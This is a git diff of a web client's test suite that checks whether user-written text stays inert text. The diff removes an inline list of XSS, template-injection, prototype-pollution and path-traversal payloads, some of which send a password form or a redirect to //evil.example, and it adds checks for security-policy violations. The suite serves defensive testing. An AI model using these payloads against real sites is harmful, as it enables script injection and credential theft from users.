@@ -14,57 +14,8 @@ import {
     section,
     task,
 } from './fake.js'
-
-const TEXTS = [
-    '<img src=x onerror=ran()>',
-    '<svg onload=ran()>',
-    '<script>ran()</script>',
-    '</title><script>ran()</script>',
-    '</textarea><script>ran()</script>',
-    '</template><script>ran()</script>',
-    '"><script>ran()</script>',
-    "' onclick='ran()",
-    '" autofocus onfocus="ran()',
-    'javascript:ran()',
-    'data:text/html,<script>ran()</script>',
-    '<a href="javascript:ran()">a</a>',
-    '<iframe srcdoc="<script>parent.ran()</script>">',
-    '<form action="//evil.example"><input name=password type=password>',
-    '<base href="//evil.example">',
-    '<meta http-equiv=refresh content="0;url=//evil.example">',
-    '<style>*{display:none}</style>',
-    '<template id=asking><dialog>evil</dialog></template>',
-    '<div data-part=trouble role=alert>Your password is needed</div>',
-    '<dialog open>Sign in again</dialog>',
-    '&lt;script&gt;ran()&lt;/script&gt;',
-    '{{constructor.constructor("ran()")()}}',
-    '${ran()}',
-    '__proto__',
-    'constructor',
-    'hasOwnProperty',
-    '../../v1/me?x=y#z',
-    '%2e%2e%2f%00',
-    '\u202eevil\u2066\u2069',
-    '\u0000\u0001\ufffe',
-    '\ud800',
-    'a'.repeat(200),
-    'ｚ'.repeat(200),
-    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
-    '👩‍👩‍👧‍👦',
-    '﷽﷽﷽',
-    '\n\n\n',
-    '   ',
-    '📎.exe',
-    '<bdi></bdi></bdi></a></li></ul></main><h1>NoteIt</h1>',
-]
-
-/** Elements and the names of their attributes, without texts that people wrote, which `draw` makes and its tests judge. @param {Element} root @returns {string} */
-function skeleton(root) {
-    if (root.classList.contains('text')) return 'text'
-    const attributes = root.getAttributeNames().join(' ')
-    const children = Array.from(root.children, skeleton).join('')
-    return `${root.localName}[${attributes}](${children})`
-}
+import { ALL } from './hostile_texts.js'
+import { faults, skeleton, styled } from './boxes.js'
 
 /** Everything that people write, as one text. @param {string} text */
 function world(text) {
@@ -164,7 +115,7 @@ function forStaff(text) {
 /** @typedef {(text: string) => Parameters<typeof openRoom>[1]} Fields */
 
 /** @param {string} address @param {string} text @param {Fields} [fields] @param {string} [row] what is shown last */
-async function shown(address, text, fields = address.startsWith('/staff') ? forStaff : world, row = 'li') {
+async function shown(address, text, fields = world, row = 'li') {
     const { main, all, close } = await openRoom(address, fields(text))
     await until(() => main.querySelector('[data-part=room]')?.children.length !== 0)
     for (const details of all('details')) details.setAttribute('open', '')
@@ -177,21 +128,51 @@ async function shown(address, text, fields = address.startsWith('/staff') ? forS
         const counts = ['questionsRow', 'reportsRow', 'requestsRow']
         await until(() => counts.every((name) => !main.querySelector(`.counts [data-part=${name}][hidden]`)))
         await until(() => room !== 'notices' || /Reaches/.test(main.querySelector('.reach')?.textContent ?? ''))
-        await until(() => all('[data-part=seen]').every((node) => node.textContent))
+        // Counts are asked for when their rows are near.
+        await until(() => all('[data-part=seen]').every((node) => (node.scrollIntoView(), node.textContent)))
     }
-    const found = skeleton(main)
+    await formulas()
+    const found = [skeleton(main), ...faults(main, text)]
     close()
     return found
 }
 
+/** Until the formulas of texts are drawn. */
+const formulas = () => import('../../../../client-web/text/formulas/formulas.js')
+
 const counter = { ran: 0 }
 Object.assign(globalThis, { ran: () => (counter.ran += 1) })
+/** What the policy refused. @type {string[]} */
+const refused = []
+addEventListener(
+    'securitypolicyviolation',
+    ({ blockedURI, violatedDirective }) => refused.push(`${violatedDirective} ${blockedURI}`),
+)
 
-/** @param {string} address @param {Fields} [fields] @param {string} [row] */
+/** Nothing ran, nothing was asked for but modules and styles, nothing stands beside the page. */
+function nothingHappened() {
+    const asked = performance.getEntriesByType('resource').map(({ name }) => name).filter((name) =>
+        !/\.(js|css|ico)$/.test(name)
+    )
+    const beside = document.querySelectorAll('body > :not(template, main, script, link)').length
+    equal([counter.ran, refused, asked, beside, document.title, location.origin], [0, [], [], 0, document.title, origin])
+}
+
+/**
+ * A room with styles is judged by its boxes too; the rooms of staff and of settings, whose fields are given, by their elements.
+ * @param {string} address @param {Fields} [fields] @param {string} [row]
+ */
 async function staysText(address, fields, row) {
-    const plain = await shown(address, 'plain', fields, row)
-    for (const text of TEXTS) equal(await shown(address, text, fields, row), plain, text)
-    equal([counter.ran, document.querySelectorAll('body > :not(template, main, script)').length], [0, 0])
+    if (!fields) await styled()
+    const [plain] = await shown(address, 'plain', fields, row)
+    const wrong = []
+    for (const text of ALL) {
+        const [found, ...more] = await shown(address, text, fields, row)
+        const faulty = fields ? [] : [...new Set(more)]
+        if (found !== plain || faulty.length > 0) wrong.push([text, ...(found === plain ? [] : [found, plain]), ...faulty])
+    }
+    equal(wrong, [])
+    nothingHappened()
 }
 
 test('hostile texts stay texts: today', () => staysText('/'))
@@ -209,15 +190,15 @@ test('hostile texts stay texts: a course', () => staysText(`/c/${COURSE}`))
 
 test('hostile texts stay texts: an event', () => staysText(`/c/${COURSE}/1`))
 
-test('hostile texts stay texts: the courses of the staff', () => staysText('/staff'))
+test('hostile texts stay texts: the courses of the staff', () => staysText(`/staff`, forStaff))
 
-test('hostile texts stay texts: a course for its staff', () => staysText(`/staff/${COURSE}`))
+test('hostile texts stay texts: a course for its staff', () => staysText(`/staff/${COURSE}`, forStaff))
 
-test('hostile texts stay texts: notices and who has not seen them', () => staysText(`/staff/${COURSE}/notices?new=1`))
+test('hostile texts stay texts: notices and who has not seen them', () => staysText(`/staff/${COURSE}/notices?new=1`, forStaff))
 
-test('hostile texts stay texts: people and who asks to join', () => staysText(`/staff/${COURSE}/roster`))
+test('hostile texts stay texts: people and who asks to join', () => staysText(`/staff/${COURSE}/roster`, forStaff))
 
-test('hostile texts stay texts: reports and removed posts', () => staysText(`/staff/${COURSE}/reports?all=1`))
+test('hostile texts stay texts: reports and removed posts', () => staysText(`/staff/${COURSE}/reports?all=1`, forStaff))
 
 /** What people name, and what other systems say, in the settings. @param {string} text */
 function settings(text) {
@@ -271,7 +252,7 @@ test('hostile texts stay texts: what the server finds', async () => {
         title: { text, marks: [{ from: 0, to: 3 }] },
         excerpt: { text, marks: [] },
     })
-    for (const text of TEXTS) {
+    for (const text of ALL) {
         const { all, close } = await openRoom(`/search?q=${encodeURIComponent(text.toWellFormed())}`, {
             answer: () => ({ items: [hit(text)], next: null }),
         })
@@ -279,13 +260,13 @@ test('hostile texts stay texts: what the server finds', async () => {
         equal(all('.hit :not(span, a, bdi, mark, time)').length, 0, text)
         close()
     }
-    equal(counter.ran, 0)
+    nothingHappened()
 })
 
 test('hostile texts stay texts: a draft that is not one', async () => {
     for (
         const text of [
-            ...TEXTS,
+            ...ALL,
             '{',
             'null',
             '[]',
